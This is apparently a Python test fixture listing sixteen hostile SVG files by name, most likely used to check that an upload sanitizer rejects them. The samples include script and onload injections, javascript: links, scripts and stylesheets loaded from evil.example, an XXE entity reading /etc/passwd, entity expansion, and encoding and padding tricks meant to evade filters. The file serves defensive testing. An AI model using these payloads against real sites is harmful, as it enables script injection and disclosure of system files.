"""Drawings that were written to do harm, as files that somebody attaches, by name."""

_HEAD = "<?xml version='1.0'?>"
_NS = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"

_DRAWINGS: dict[str, str | bytes] = {
    "script": f"{_HEAD}<svg {_NS}><script>hit()</script></svg>",
    "handler": f"<svg {_NS} onload='hit()'/>",
    "foreign html": f"<svg {_NS}><foreignObject><body onload='hit()'/></foreignObject></svg>",
    "link": f"<svg {_NS}><a xlink:href='javascript:hit()'><text y='20'>x</text></a></svg>",
    "script from elsewhere": f"<svg {_NS}><script xlink:href='https://evil.example/x.js'/></svg>",
    "style sheet": f"{_HEAD}<?xml-stylesheet href='https://evil.example/x'?><svg {_NS}/>",
    "entities": f"{_HEAD}<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg {_NS}>&x;</svg>",
    "entities that multiply": f"<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg {_NS}>&b;</svg>",
    "behind a comment": f"<!-- {'x' * 5_000} --><svg {_NS} onload='hit()'/>",
    "behind blanks": f"{' ' * 5_000}<svg {_NS} onload='hit()'/>",
    "behind a mark": b"\xef\xbb\xbf" + f"<svg {_NS} onload='hit()'/>".encode(),
    "in utf sixteen": f"{_HEAD}<svg {_NS} onload='hit()'/>".encode("utf-16"),
    "in capitals": f"<SVG {_NS} ONLOAD='hit()'/>",
    "with a prefix": "<?xml version='1.0'?><s:svg xmlns:s='http://www.w3.org/2000/svg' onload='hit()'/>",
    "in html": f"<!DOCTYPE html><svg {_NS} onload='hit()'/>",
    "behind the head of a picture": b"GIF89a/*" + f"<svg {_NS} onload='hit()'/>".encode(),
}
SVGS = {name: one if isinstance(one, bytes) else one.encode() for name, one in _DRAWINGS.items()}
